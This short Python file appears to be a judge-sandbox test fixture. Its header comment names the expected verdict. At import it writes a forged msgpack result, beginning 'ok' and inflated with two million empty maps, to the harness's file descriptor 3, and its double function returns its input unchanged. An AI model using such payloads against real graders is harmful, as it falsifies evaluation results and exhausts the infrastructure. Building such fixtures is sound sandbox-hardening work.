# verdict: runtime error | output limit
# While it loads, sends what is short to send and long to build: two million empty dicts.
import msgpack, os, struct
header = b"\x94\xa2ok\xdd" + struct.pack(">I", 2_000_000) + b"\x80" * 2_000_000 + b"\xa0\xcb" + bytes(8)
message = memoryview(struct.pack("<II", len(header), 0) + header)
while message:
    try:
        message = message[os.write(3, message):]
    except BlockingIOError:
        pass
def double(values): return values
